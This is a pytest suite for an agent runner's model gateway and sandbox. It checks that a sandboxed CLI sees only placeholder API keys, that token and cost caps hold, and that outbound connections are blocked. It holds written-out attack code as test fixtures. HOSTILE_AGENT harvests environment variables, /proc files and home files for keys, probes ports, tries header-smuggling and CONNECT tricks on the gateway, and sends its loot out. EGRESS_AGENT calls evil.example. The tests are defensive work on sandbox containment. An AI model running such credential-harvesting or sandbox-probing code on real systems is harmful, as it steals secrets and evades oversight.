"""An agent CLI reaches its model only through the task's gateway, which holds the key and the budget.

A Python script stands in for the CLI: it runs in the real bubblewrap sandbox,
whose network namespace is empty, and calls ``http://127.0.0.1:PORT`` with the
requests the Anthropic and OpenAI SDKs send. Behind the gateway are the
project's model emulators, configured to accept only the real keys.
"""

from __future__ import annotations

import hashlib
import json
import re
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from github_emulator.llm import AnthropicEmulator, OpenAIEmulator, Reply

from tests.conftest import DISPATCH, TARGET, World, dispatch_body

ANTHROPIC_KEY = "sk-ant-api03-RealAnthropicKey0123456789abcdefABCDEF"
OPENAI_KEY = "sk-proj-RealOpenAIKey0123456789abcdefABCDEF"
PLACEHOLDER_PREFIX = "agent-runner-gateway-"

#: What both SDKs would send, in a stdlib script the sandbox's python3 runs.
CLIENT = '''
import hashlib, json, os, sys, urllib.error, urllib.request

def call(path, body, headers, base):
    request = urllib.request.Request(base + path, data=json.dumps(body).encode(), method="POST",
                                     headers={"content-type": "application/json", **headers})
    try:
        with urllib.request.urlopen(request, timeout=20) as response:
            return response.status, response.read().decode()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode()
    except OSError as exc:
        return 0, repr(exc)

def anthropic(body, **extra):
    headers = {"x-api-key": os.environ["ANTHROPIC_API_KEY"], "anthropic-version": "2023-06-01",
               "x-stainless-lang": "python", **extra}
    return call("/v1/messages", body, headers, os.environ["ANTHROPIC_BASE_URL"])

def openai(body, path="/chat/completions"):
    headers = {"authorization": "Bearer " + os.environ["OPENAI_API_KEY"], "x-stainless-lang": "python"}
    return call(path, body, headers, os.environ["OPENAI_BASE_URL"])

def env_hashes():
    # Short digests: enough to tell a key apart, too short for the runner's secret scan to flag.
    return {name: hashlib.sha256(value.encode()).hexdigest()[:6] for name, value in os.environ.items()}
'''


def agent_script(world_root: Path, body: str) -> Path:
    folder = world_root / "agent"
    folder.mkdir(exist_ok=True)
    path = folder / "agent.py"
    path.write_text(CLIENT + textwrap.dedent(body))
    return path


def sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()[:6]


@pytest.fixture()
def models() -> Iterator[tuple[AnthropicEmulator, OpenAIEmulator]]:
    with AnthropicEmulator(api_key=ANTHROPIC_KEY) as claude, OpenAIEmulator(api_key=OPENAI_KEY) as gpt:
        yield claude, gpt


def settings(world: World, agent: Path, models: tuple[AnthropicEmulator, OpenAIEmulator], **extra: Any) -> dict:
    claude, gpt = models
    return {"generators": "command", "sandbox_ro_paths": str(agent.parent),
            "command_template": f"python3 {agent} {{instruction_file}}",
            "command_gateway": "anthropic,openai",
            "anthropic_api_key": ANTHROPIC_KEY, "anthropic_base_url": claude.base_url,
            "openai_api_key": OPENAI_KEY, "openai_base_url": f"{gpt.base_url}/v1",
            "generator_timeout_seconds": 30, **extra}


def transcript(world: World, number: int) -> str:
    return (world.root / "data" / "transcripts" / DISPATCH / str(number) / "gateway.jsonl").read_text()


def assert_no_placeholder_upstream(*emulators: Any) -> None:
    for emu in emulators:
        for request in emu.requests:
            assert request.auth_present
            assert PLACEHOLDER_PREFIX not in json.dumps(dict(request.headers)) + request.raw


def test_a_cli_reaches_both_models_through_the_gateway_with_only_a_placeholder(
    world: World, models: tuple[AnthropicEmulator, OpenAIEmulator]
) -> None:
    claude, gpt = models
    claude.script([Reply.text("Hello from Claude", input_tokens=1200, output_tokens=80),
                   Reply.text("Streamed Claude", input_tokens=1300, output_tokens=40)])
    gpt.script([Reply.text("Hello from GPT", input_tokens=500, output_tokens=20),
                Reply.text("Streamed GPT", input_tokens=600, output_tokens=30)])
    agent = agent_script(world.root, '''
        results = {
            "anthropic": anthropic({"model": "claude-haiku-4-5", "max_tokens": 200,
                                    "messages": [{"role": "user", "content": "say hello"}]}),
            "anthropic_stream": anthropic({"model": "claude-haiku-4-5", "max_tokens": 200, "stream": True,
                                           "messages": [{"role": "user", "content": "stream it"}]}),
            "openai": openai({"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "say hello"}]}),
            "openai_stream": openai({"model": "gpt-4o-mini", "stream": True,
                                     "messages": [{"role": "user", "content": "stream it"}]}),
        }
        report = {"env": env_hashes(), "names": sorted(os.environ), "results": results,
                  "placeholder": os.environ["OPENAI_API_KEY"].startswith("agent-runner-gateway-"),
                  "same": os.environ["OPENAI_API_KEY"] == os.environ["ANTHROPIC_API_KEY"],
                  "base": os.environ["ANTHROPIC_BASE_URL"]}
        open("agent-report.json", "w").write(json.dumps(report, indent=1))
        print("Called both models.")
    ''')
    number = world.file_issue(dispatch_body(instruction="Call the models."))

    outcomes = world.run_once(**settings(world, agent, models))

    assert [o.status for o in outcomes] == ["succeeded"]
    pull = world.pulls()[0]
    report = json.loads(world.emu.file_at(TARGET, pull["head"]["ref"], "agent-report.json"))
    results = report["results"]
    assert all(status == 200 for status, _ in results.values()), results
    assert "Hello from Claude" in results["anthropic"][1]
    assert "Streamed" in results["anthropic_stream"][1] and "message_stop" in results["anthropic_stream"][1]
    assert "Hello from GPT" in results["openai"][1] and "[DONE]" in results["openai_stream"][1]
    # The CLI saw a placeholder in both key variables, and never a real key.
    assert report["placeholder"] and report["same"]
    assert re.fullmatch(r"http://127\.0\.0\.1:\d+", report["base"])
    assert sha(ANTHROPIC_KEY) not in report["env"].values() and sha(OPENAI_KEY) not in report["env"].values()
    assert "GITHUB_TOKEN" not in report["names"]
    # The model servers saw the real keys (they refuse anything else) and never the placeholder.
    assert len(claude.completions) == 2 and len(gpt.completions) == 2
    assert_no_placeholder_upstream(claude, gpt)
    assert gpt.completions[1].body["stream_options"] == {"include_usage": True}
    # Tokens and cost are on the issue: 1200+1300+500+600 in, 80+40+20+30 out.
    comment = world.comments(number)[-1]["body"]
    assert re.search(r"Model calls through the gateway: 4, 3770 tokens \(3600 input, 170 output\), "
                     r"\$0\.00\d\d", comment), comment
    assert "3600 in / 170 out tokens" in pull["body"]
    # The transcript holds the four exchanges, redacted.
    text = transcript(world, number)
    events = [json.loads(line) for line in text.splitlines()]
    assert [e["kind"] for e in events].count("response") == 4
    assert "Hello from Claude" in text and "say hello" in text and "stream it" in text
    assert "message_stop" in text and "[DONE]" in text  # the streamed answers, as they passed
    assert ANTHROPIC_KEY not in text and OPENAI_KEY not in text and PLACEHOLDER_PREFIX not in text


LOOPING_AGENT = '''
    # A model that never finishes: call it again and again until the gateway says no.
    messages = [{"role": "user", "content": "Fix everything."}]
    while True:
        status, text = openai({"model": "gpt-4o", "max_tokens": 100, "messages": messages})
        if status != 200:
            print(f"model call failed with {status}: {text}")
            sys.exit(1)
        messages = messages[:1] + [{"role": "assistant", "content": "Working."}, {"role": "user", "content": "Go on."}]
'''


@pytest.mark.parametrize(("cap", "allowed_calls", "says"), [
    ({"max_tokens_per_task": 3500}, 3, "MAX_TOKENS_PER_TASK"),  # 1100 tokens a call: a 4th would make 4400
    ({"max_cost_usd_per_task": 0.01}, 2, "MAX_COST_USD_PER_TASK"),  # $0.0035 a call: a 3rd would make $0.0105
])
def test_a_model_that_never_finishes_is_stopped_before_the_call_that_would_cross_the_cap(
    world: World, models: tuple[AnthropicEmulator, OpenAIEmulator], cap: dict, allowed_calls: int, says: str,
) -> None:
    _, gpt = models
    gpt.script([Reply.text("Working.", input_tokens=1000, output_tokens=100)] * 20)
    agent = agent_script(world.root, LOOPING_AGENT)
    number = world.file_issue(dispatch_body(instruction="Loop forever."))

    outcomes = world.run_once(**settings(world, agent, models, command_gateway="openai", **cap))

    assert [o.status for o in outcomes] == ["failed"]
    assert len(gpt.completions) == allowed_calls  # the call that would cross the cap never left
    comment = [c["body"] for c in world.comments(number) if "agent-runner:result" in c["body"]][-1]
    spent = allowed_calls * 1100
    assert f"`python3` used {spent} tokens ({allowed_calls * 1000} input, {allowed_calls * 100} output)" in comment
    assert says in comment and "refused its next model call" in comment, comment
    assert "Raise `MAX_TOKENS_PER_TASK` / `MAX_COST_USD_PER_TASK`" in comment
    assert "agent-failed" in world.labels(number) and world.pulls() == []
    events = [json.loads(line) for line in transcript(world, number).splitlines()]
    refused = [e for e in events if e["kind"] == "refused"]
    assert len(refused) == 1 and says in refused[0]["text"]


HOSTILE_AGENT = '''
    import glob, socket
    from urllib.parse import urlsplit
    CONFIG = json.load(open(os.path.join(os.path.dirname(__file__), "config.json")))
    loot, lines = [], []
    base = os.environ["OPENAI_BASE_URL"]
    port = urlsplit(base).port

    def note(label, result):
        lines.append(f"{label}={result}")

    # 1. The real key, from everything readable: the environment, every process's, the home, the files.
    loot.append(json.dumps(dict(os.environ)))
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            loot.append(open(path, "rb").read().decode("utf-8", "replace"))
        except OSError:
            pass
    for root, _dirs, files in os.walk(os.environ.get("HOME", "/tmp")):
        for name in files:
            try:
                loot.append(open(os.path.join(root, name), "rb").read(65536).decode("utf-8", "replace"))
            except OSError:
                pass
    for path in glob.glob("/run/agent-runner/**", recursive=True):
        if os.path.isfile(path):
            loot.append(open(path, "rb").read().decode("utf-8", "replace"))
    note("env-and-proc", f"read {len(loot)} sources")

    # 2. Other addresses: the GitHub emulator, the model server itself, other loopback ports.
    for label, target in [("github", CONFIG["github_port"]), ("model-server", CONFIG["model_port"]),
                          ("port-22", 22), ("port-5432", 5432), ("port-80", 80)]:
        try:
            socket.create_connection(("127.0.0.1", target), timeout=2).close()
            note(label, "CONNECTED")
        except OSError as exc:
            note(label, f"blocked ({exc.strerror or exc})")
    for host in ("api.openai.com", "github.com"):
        try:
            socket.getaddrinfo(host, 443)
            note(f"dns-{host}", "RESOLVED")
        except OSError as exc:
            note(f"dns-{host}", f"blocked ({exc})")

    # 3. The gateway with a wrong key, without a key, and on routes that are not model calls.
    body = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "hi"}]}
    def raw(head, payload=b""):
        with socket.create_connection(("127.0.0.1", port), timeout=10) as conn:
            conn.sendall(head.encode() + payload)
            data = b""
            while chunk := conn.recv(65536):
                data += chunk
        loot.append(data.decode("utf-8", "replace"))
        return int(data.split(b" ", 2)[1]) if data.startswith(b"HTTP/") else 0
    good = os.environ["OPENAI_API_KEY"]
    payload = json.dumps(body).encode()
    for label, head in [
        ("wrong-key", f"POST /v1/chat/completions HTTP/1.1\\r\\nHost: x\\r\\nAuthorization: Bearer sk-guess\\r\\n"),
        ("no-key", "POST /v1/chat/completions HTTP/1.1\\r\\nHost: x\\r\\n"),
        ("files-route", f"POST /v1/files HTTP/1.1\\r\\nHost: x\\r\\nAuthorization: Bearer {good}\\r\\n"),
        ("github-route", f"POST /repos/octocat/target/pulls HTTP/1.1\\r\\nHost: x\\r\\nAuthorization: Bearer {good}\\r\\n"),
        ("connect", f"CONNECT 127.0.0.1:{CONFIG['github_port']} HTTP/1.1\\r\\nHost: x\\r\\nAuthorization: Bearer {good}\\r\\n"),
    ]:
        status = raw(head + f"Content-Length: {len(payload)}\\r\\nConnection: close\\r\\n\\r\\n", payload)
        note(label, str(status) if status in (401, 403) else f"ANSWERED {status}")

    # 4. Make the gateway forward elsewhere: an absolute URI, then a Host header, naming the GitHub emulator.
    gh = f"127.0.0.1:{CONFIG['github_port']}"
    for label, head in [
        ("absolute-uri", f"POST http://{gh}/v1/chat/completions HTTP/1.1\\r\\nHost: {gh}\\r\\n"),
        ("host-header", f"POST /v1/chat/completions HTTP/1.1\\r\\nHost: {gh}\\r\\n"),
    ]:
        status = raw(head + f"Authorization: Bearer {good}\\r\\nContent-Length: {len(payload)}\\r\\n"
                     "Connection: close\\r\\n\\r\\n", payload)
        note(label, f"answered {status} by the configured model server")

    # 5. Send everything found to the model: whatever the model server receives, a hostile model could keep.
    status, text = openai({"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "\\n".join(loot)}]})
    loot.append(text)
    note("exfiltrate", str(status))
    open("hostile-report.txt", "w").write("\\n".join(lines) + "\\n")
    print("\\n".join(lines))
'''


def test_a_hostile_agent_cannot_get_the_key_or_another_destination(
    world: World, models: tuple[AnthropicEmulator, OpenAIEmulator]
) -> None:
    claude, gpt = models
    gpt.script([Reply.text("absolute"), Reply.text("host"), Reply.text("thanks for the loot")])
    config = {"github_port": urlsplit(world.emu.base_url).port, "model_port": urlsplit(gpt.base_url).port}
    agent = agent_script(world.root, HOSTILE_AGENT)
    (agent.parent / "config.json").write_text(json.dumps(config))
    number = world.file_issue(dispatch_body(instruction="Steal the key."))

    outcomes = world.run_once(**settings(world, agent, models))

    assert [o.status for o in outcomes] == ["succeeded"]
    report = world.emu.file_at(TARGET, world.pulls()[0]["head"]["ref"], "hostile-report.txt")
    results = dict(line.split("=", 1) for line in report.splitlines())
    assert int(results["env-and-proc"].split()[1]) > 5, report  # the attack ran
    for label in ("github", "model-server", "port-22", "port-5432", "port-80"):
        assert results[label].startswith("blocked"), report
    assert results["dns-api.openai.com"].startswith("blocked") and results["dns-github.com"].startswith("blocked")
    assert results["wrong-key"] == "401" and results["no-key"] == "401", report
    assert results["files-route"] == "403" and results["github-route"] == "403" and results["connect"] == "403"
    assert results["absolute-uri"] == results["host-header"] == "answered 200 by the configured model server"
    assert results["exfiltrate"] == "200"
    # Everything went to the configured model server only, as that server: with the real key and its own Host.
    assert len(gpt.completions) == 3 and claude.requests == []
    model_host = gpt.base_url.removeprefix("http://")
    assert all(r.headers["host"] == model_host for r in gpt.requests)
    # All the agent could collect reached the model, and none of it is a key.
    loot = gpt.completions[-1].raw
    assert "OPENAI_API_KEY" in loot and len(loot) > 1000
    for key in (OPENAI_KEY, ANTHROPIC_KEY):
        assert key not in loot and key[8:-4] not in loot
        assert all(key not in r.raw and key not in json.dumps(dict(r.headers)) for r in gpt.requests)
    # The task reports honestly: it succeeded, and the comment says what the gateway refused.
    comment = world.comments(number)[-1]["body"]
    assert "The model gateway refused 5 request(s)" in comment, comment
    assert "`POST /v1/files (403)`" in comment and "(401)" in comment
    assert OPENAI_KEY not in comment and PLACEHOLDER_PREFIX not in comment
    text = transcript(world, number)
    assert OPENAI_KEY not in text and PLACEHOLDER_PREFIX not in text


EGRESS_AGENT = '''
    import socket, subprocess
    lines = []
    for label, url in [("blocked-host", "https://evil.example/steal"), ("blocked-http", "http://evil.example/x"),
                       ("allowed-host", "https://127.0.0.2/simple/"), ("allowed-bad-port", "https://127.0.0.2:8443/")]:
        try:
            urllib.request.urlopen(url, timeout=10)
            lines.append(f"{label}=FETCHED")
        except Exception as exc:
            lines.append(f"{label}={type(exc).__name__}: {exc}")
    # A child process tries too: the report names the command that did.
    child = "import urllib.request; urllib.request.urlopen('https://pypi.example/simple', timeout=10)"
    done = subprocess.run([sys.executable, "-c", child], capture_output=True, text=True)
    lines.append(f"child={done.returncode}")
    # The model calls still go straight to the gateway (NO_PROXY), not through the proxy.
    status, _ = openai({"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "hi"}]})
    lines.append(f"model={status}")
    lines.append("proxy=" + os.environ.get("HTTPS_PROXY", "") + " no_proxy=" + os.environ.get("NO_PROXY", ""))
    open("egress-report.txt", "w").write("\\n".join(lines) + "\\n")
'''


def test_egress_goes_only_to_allowed_hosts_and_blocked_attempts_are_reported(
    world: World, models: tuple[AnthropicEmulator, OpenAIEmulator]
) -> None:
    _, gpt = models
    gpt.script([Reply.text("hello")])
    agent = agent_script(world.root, EGRESS_AGENT)
    number = world.file_issue(dispatch_body(instruction="Fetch things."))

    outcomes = world.run_once(**settings(world, agent, models, sandbox_egress_allow="127.0.0.2,pypi.org"))

    assert [o.status for o in outcomes] == ["succeeded"]
    report = world.emu.file_at(TARGET, world.pulls()[0]["head"]["ref"], "egress-report.txt")
    results = dict(line.split("=", 1) for line in report.splitlines() if "=" in line)
    assert "403" in results["blocked-host"] and "403" in results["blocked-http"], report
    assert "502" in results["allowed-host"], report  # allowed, and nothing listens on 127.0.0.2:443
    assert "403" in results["allowed-bad-port"], report
    assert results["child"] == "1" and results["model"] == "200"
    assert re.match(r"http://127\.0\.0\.1:\d+ no_proxy=127\.0\.0\.1,localhost", results["proxy"])
    comment = world.comments(number)[-1]["body"]
    assert "The sandbox's egress proxy blocked 4 connection(s)" in comment, comment
    assert re.search(r"`evil\.example:443` by `python3 \S+agent\.py .*` \(not in SANDBOX_EGRESS_ALLOW\)", comment)
    assert "`evil.example:80` by `python3" in comment
    assert "`127.0.0.2:8443` by `python3" in comment and "(port 8443 is not allowed)" in comment
    assert "`pypi.example:443` by `" in comment and "urllib.request.urlopen('https://pypi.example" in comment


def test_without_the_sandbox_the_gateway_listens_on_loopback_tcp(
    world: World, models: tuple[AnthropicEmulator, OpenAIEmulator]
) -> None:
    claude, _ = models
    claude.script([Reply.text("Hello without a sandbox", input_tokens=100, output_tokens=10)])
    agent = agent_script(world.root, '''
        status, text = anthropic({"model": "claude-haiku-4-5", "max_tokens": 50,
                                  "messages": [{"role": "user", "content": "hi"}]})
        open("answer.txt", "w").write(f"{status} {os.environ['ANTHROPIC_BASE_URL']}\\n")
    ''')
    number = world.file_issue(dispatch_body(instruction="Answer."))

    outcomes = world.run_once(**settings(world, agent, models, sandbox="off", command_gateway="anthropic"))

    assert [o.status for o in outcomes] == ["succeeded"]
    answer = world.emu.file_at(TARGET, world.pulls()[0]["head"]["ref"], "answer.txt")
    assert re.fullmatch(r"200 http://127\.0\.0\.1:\d+\n", answer)
    comment = world.comments(number)[-1]["body"]
    assert "Model calls through the gateway: 1, 110 tokens" in comment and "SANDBOX=off" in comment
    assert_no_placeholder_upstream(claude)


def test_a_model_server_that_hangs_does_not_outlast_the_task_deadline(
    world: World, models: tuple[AnthropicEmulator, OpenAIEmulator]
) -> None:
    _, gpt = models
    gpt.script([Reply.slow(60)])
    agent = agent_script(world.root, '''
        while True:  # like a CLI that retries for minutes
            status, text = openai({"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "hi"}]})
            print(status, text[:200], flush=True)
    ''')
    number = world.file_issue(dispatch_body(instruction="Wait."))

    # The upstream's breaker stays closed here (a high BREAKER_THRESHOLD): three 1 s timeouts inside the 3 s
    # deadline would otherwise open it, and its quick refusals would fill the log's tail, racing the kill.
    outcomes = world.run_once(**settings(world, agent, models, command_gateway="openai", breaker_threshold=100,
                                         generator_timeout_seconds=3, gateway_timeout_seconds=1))

    assert [o.status for o in outcomes] == ["failed"]
    comment = [c["body"] for c in world.comments(number) if "agent-runner:result" in c["body"]][-1]
    assert re.search(r"`python3` did not finish within [\d.]+ s and was stopped", comment), comment
    log = (world.root / "data" / "transcripts" / DISPATCH / str(number) / "command.log").read_text()
    assert "504" in log and "did not answer within 1 s" in log


def test_a_cli_that_gives_up_on_a_rate_limited_model_makes_the_task_wait(
    world: World, models: tuple[AnthropicEmulator, OpenAIEmulator]
) -> None:
    # A 429 is the model API's outage, like a 5xx (#29): the gateway notes it, so a CLI that gives up
    # on it makes the task wait, spending no attempt, instead of failing it.
    _, gpt = models
    gpt.script([Reply.error(429, "Rate limit reached for requests.", retry_after=30)])
    agent = agent_script(world.root, '''
        status, text = openai({"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "hi"}]})
        print(status, text[:200], flush=True)
        sys.exit(0 if status == 200 else 1)
    ''')
    number = world.file_issue(dispatch_body(instruction="Edit."))

    outcomes = world.run_once(**settings(world, agent, models, command_gateway="openai"))

    assert [o.status for o in outcomes] == ["waiting"], outcomes
    comment = world.comments(number)[-1]["body"]
    assert "The model server failed while it ran" in comment and "answered 429" in comment, comment
    assert "agent-failed" not in world.labels(number) and world.pulls() == []


def test_a_retry_after_failed_validation_gets_only_what_is_left_of_the_budget(
    world: World, models: tuple[AnthropicEmulator, OpenAIEmulator]
) -> None:
    _, gpt = models
    gpt.script([Reply.text("Working.", input_tokens=1000, output_tokens=100)] * 5)
    agent = agent_script(world.root, '''
        status, text = openai({"model": "gpt-4o", "max_tokens": 100,
                               "messages": [{"role": "user", "content": "One call, then edit. " + "x" * 4000}]})
        print(status, text[:300])
        open("edited.txt", "a").write("try\\n")
        sys.exit(0 if status == 200 else 1)
    ''')
    number = world.file_issue(dispatch_body(instruction="Edit until the tests pass."))

    outcomes = world.run_once(**settings(world, agent, models, command_gateway="openai", max_tokens_per_task=2000,
                                         validate_commands="false", validation_rounds=1,
                                         on_validation_failure="fail"))

    # The first try used 1100 of the 2000 tokens; the second's call (4 KB: 1400 tokens estimated) is refused.
    assert [o.status for o in outcomes] == ["failed"]
    assert len(gpt.completions) == 1
    comment = [c["body"] for c in world.comments(number) if "agent-runner:result" in c["body"]][-1]
    assert "over the 900 tokens left for the task (MAX_TOKENS_PER_TASK)" in comment, comment


def test_no_fallback_generator_runs_once_the_budget_is_spent(
    world: World, models: tuple[AnthropicEmulator, OpenAIEmulator]
) -> None:
    _, gpt = models
    gpt.script([Reply.text("Working.", input_tokens=1000, output_tokens=100)] * 20)
    agent = agent_script(world.root, LOOPING_AGENT)
    number = world.file_issue(dispatch_body(instruction="Loop forever."))

    outcomes = world.run_once(**settings(world, agent, models, generators="command,trace",
                                         command_gateway="openai", max_tokens_per_task=3500))

    assert [o.status for o in outcomes] == ["failed"]  # not the `trace` fallback's empty success
    comment = [c["body"] for c in world.comments(number) if "agent-runner:result" in c["body"]][-1]
    assert "MAX_TOKENS_PER_TASK" in comment and world.pulls() == []


FETCHER = '''import os, sys, urllib.request
try:
    urllib.request.urlopen("https://" + sys.argv[1] + "/simple/", timeout=10)
    print("fetched")
except Exception as exc:
    print(f"fetch failed: {exc}")
sys.exit(int(sys.argv[2]) if len(sys.argv) > 2 else 0)
'''


def test_setup_and_validation_reach_only_allowed_hosts_and_blocked_ones_are_reported(world: World) -> None:
    from tests.conftest import README_PATCH

    world.emu.create_repo("octocat/fetcher", files={
        "README.md": "# target\n\nA repository the runner changes in tests.\n",
        "fetch.py": FETCHER,
        ".agent-runner.yml": "setup:\n  - python3 fetch.py setup-host.example\n"
                             "validate:\n  - python3 fetch.py validate-host.example 1\n",
    })
    number = world.file_issue(dispatch_body(target="octocat/fetcher", instruction=f"Patch it.\n\n{README_PATCH}"))

    outcomes = world.run_once(generators="patch", repo_commands="allow", sandbox_egress_allow="pypi.org",
                              validation_rounds=0, on_validation_failure="fail")

    assert [o.status for o in outcomes] == ["failed"]
    comment = [c["body"] for c in world.comments(number) if "agent-runner:result" in c["body"]][-1]
    assert "Tunnel connection failed: 403" in comment, comment  # what the validation command printed
    assert "The sandbox's egress proxy blocked 2 connection(s)" in comment
    assert "`setup-host.example:443` by `python3 fetch.py setup-host.example`" in comment
    assert "`validate-host.example:443` by `python3 fetch.py validate-host.example 1`" in comment
